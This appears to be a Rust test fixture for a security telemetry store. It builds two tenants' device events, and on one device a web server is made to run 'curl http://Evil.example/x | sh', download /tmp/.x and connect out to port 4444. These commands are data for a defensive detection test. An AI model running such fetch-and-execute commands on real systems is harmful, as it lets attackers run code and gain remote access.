//! Two tenants, a few devices, and what happened on them.

use std::path::PathBuf;
use std::sync::Arc;
use std::time::Duration;

use bartizan_model::{
    Action, BootId, Connection, ConnectionOutcome, DeviceId, Envelope, Event, EventId, FileChange,
    FileOperation, Process, ProcessFile, ProcessKey, ProcessUser, Protocol, SensorHealth, StreamId,
    TenantId, Timestamp,
};
use bartizan_store::Store;
use bartizan_telemetry::{Config, QueryOptions, QueryResult, Telemetry};

/// 2024-01-02T00:00:00Z
pub(crate) const START: Timestamp = Timestamp::from_millis(1_704_153_600_000);

/// A telemetry store in a folder of its own.
pub(crate) struct World {
    pub(crate) folder: tempfile::TempDir,
    pub(crate) telemetry: Telemetry,
    pub(crate) tenants: [TenantId; 2],
}

impl World {
    pub(crate) fn new() -> Self {
        Self::with(Config::default())
    }

    pub(crate) fn with(config: Config) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let telemetry = open(folder.path().to_owned(), config);
        Self { folder, telemetry, tenants: [id("aa").parse().unwrap(), id("bb").parse().unwrap()] }
    }

    /// The process ends without a word, and starts again.
    pub(crate) fn crash(self, config: Config) -> Self {
        let Self { folder, telemetry, tenants } = self;
        drop(telemetry);
        let telemetry = open(folder.path().to_owned(), config);
        Self { folder, telemetry, tenants }
    }

    pub(crate) async fn ask(&self, tenant: usize, query: &str) -> QueryResult {
        let options = QueryOptions::at(START.plus(Duration::from_secs(86_400)));
        self.telemetry.query(self.tenants[tenant], query, &options).await.unwrap()
    }

    /// The number that a query gives.
    pub(crate) async fn number(&self, tenant: usize, query: &str) -> i64 {
        self.ask(tenant, query).await.rows[0][0].as_i64().unwrap()
    }
}

fn open(folder: PathBuf, config: Config) -> Telemetry {
    let store = Arc::new(Store::open(folder.join("records.sqlite")).unwrap());
    Telemetry::open(folder.join("telemetry"), store, config).unwrap()
}

/// A UUID that ends with these letters.
pub(crate) fn id(end: &str) -> String {
    format!("00000000-0000-0000-0000-{end:0>12}")
}

/// Something that happened on a device of a tenant.
pub(crate) fn envelope(
    tenant: TenantId,
    device: u8,
    sequence: u64,
    at: Timestamp,
    action: Action,
    actor: Option<Arc<Process>>,
) -> Envelope {
    Envelope {
        tenant,
        device: id(&format!("d{device}")).parse::<DeviceId>().unwrap(),
        device_name: format!("web-{device}").into(),
        received_at: at,
        event: Event {
            id: EventId {
                stream: id(&format!("e{device}")).parse::<StreamId>().unwrap(),
                sequence,
            },
            at,
            actor,
            action,
        },
    }
}

pub(crate) fn process(
    pid: u32,
    image: &str,
    command_line: &str,
    user: &str,
    started_at: Timestamp,
) -> Arc<Process> {
    Arc::new(Process {
        key: ProcessKey { boot: BootId(7), pid, start_ticks: u64::from(pid) * 10 },
        parent: None,
        image: image.into(),
        command_line: command_line.into(),
        arguments_cut: false,
        current_directory: Some("/srv".into()),
        user: ProcessUser {
            name: Some(user.into()),
            uid: if user == "root" { 0 } else { 1000 },
            gid: 1000,
            effective_uid: 1000,
            effective_gid: 1000,
            login_uid: (user != "www-data").then_some(1000),
            session: None,
        },
        cgroup: None,
        container: (user == "www-data").then(|| "c0ffee".into()),
        file: Some(ProcessFile {
            device: 1,
            inode: u64::from(pid),
            size: 4096,
            sha256: Some([pid as u8; 32]),
            deleted: false,
            fileless: false,
        }),
        started_at,
        parent_image: None,
        parent_command_line: None,
        parent_started_at: None,
        execution: None,
    })
}

/// A small day: on web-1 a web server is made to fetch and run something; web-2 is only used.
#[expect(clippy::too_many_lines, reason = "a story is told in one go")]
pub(crate) fn story(tenant: TenantId) -> Vec<Envelope> {
    let at = |seconds: u64| START.plus(Duration::from_millis(seconds * 1000 + 123));
    let nginx = process(100, "/usr/sbin/nginx", "nginx: worker process", "www-data", at(0));
    let shell =
        process(200, "/bin/sh", "sh -c \"curl http://Evil.example/x | sh\"", "www-data", at(60));
    let curl =
        process(201, "/usr/bin/curl", "curl -o /tmp/.x http://Evil.example/x", "www-data", at(61));
    let dropped = process(202, "/tmp/.x", "/tmp/.x --connect 203.0.113.9", "www-data", at(65));
    let bash = process(300, "/bin/bash", "-bash", "alice", at(3600));
    let sudo = process(301, "/usr/bin/sudo", "sudo apt-get update", "alice", at(3660));
    let apt = process(302, "/usr/bin/apt-get", "apt-get update", "root", at(3661));
    let connection = |ip: &str, port: u16, outcome| {
        Action::Connection(Connection {
            protocol: Protocol::Tcp,
            local: Some("10.0.0.5:40000".parse().unwrap()),
            remote: std::net::SocketAddr::new(ip.parse().unwrap(), port),
            host: None,
            outcome,
        })
    };
    let file = |path: &str, operation, size| {
        Action::File(FileChange {
            path: path.into(),
            previous_path: None,
            operation,
            size,
            count: 1,
            details: Vec::new(),
        })
    };
    let health = SensorHealth {
        kernel_execs: 7,
        reported_execs: 7,
        problems: vec!["late \"start\"".into()],
        ..SensorHealth::default()
    };
    vec![
        envelope(tenant, 1, 1, at(60), Action::ProcessStarted(shell.clone()), Some(nginx)),
        envelope(tenant, 1, 2, at(61), Action::ProcessStarted(curl.clone()), Some(shell.clone())),
        envelope(
            tenant,
            1,
            3,
            at(62),
            connection("203.0.113.9", 80, ConnectionOutcome::Succeeded),
            Some(curl.clone()),
        ),
        envelope(
            tenant,
            1,
            4,
            at(63),
            file("/tmp/.x", FileOperation::Created, Some(31337)),
            Some(curl.clone()),
        ),
        envelope(
            tenant,
            1,
            5,
            at(64),
            Action::ProcessEnded { exit_code: Some(0), signal: None },
            Some(curl),
        ),
        envelope(tenant, 1, 6, at(65), Action::ProcessStarted(dropped.clone()), Some(shell)),
        envelope(
            tenant,
            1,
            7,
            at(66),
            connection("203.0.113.9", 4444, ConnectionOutcome::Failed),
            Some(dropped.clone()),
        ),
        envelope(
            tenant,
            1,
            8,
            at(67),
            connection("10.0.0.7", 22, ConnectionOutcome::Attempted),
            Some(dropped),
        ),
        envelope(tenant, 2, 1, at(3600), Action::ProcessStarted(bash.clone()), None),
        envelope(tenant, 2, 2, at(3660), Action::ProcessStarted(sudo.clone()), Some(bash)),
        envelope(tenant, 2, 3, at(3661), Action::ProcessStarted(apt.clone()), Some(sudo)),
        envelope(
            tenant,
            2,
            4,
            at(3662),
            connection("2001:db8::1", 443, ConnectionOutcome::Succeeded),
            Some(apt.clone()),
        ),
        envelope(
            tenant,
            2,
            5,
            at(3663),
            file("/etc/apt/trusted.gpg", FileOperation::Modified, None),
            Some(apt),
        ),
        envelope(tenant, 2, 6, at(90_000), Action::SensorHealth(health), None),
    ]
}
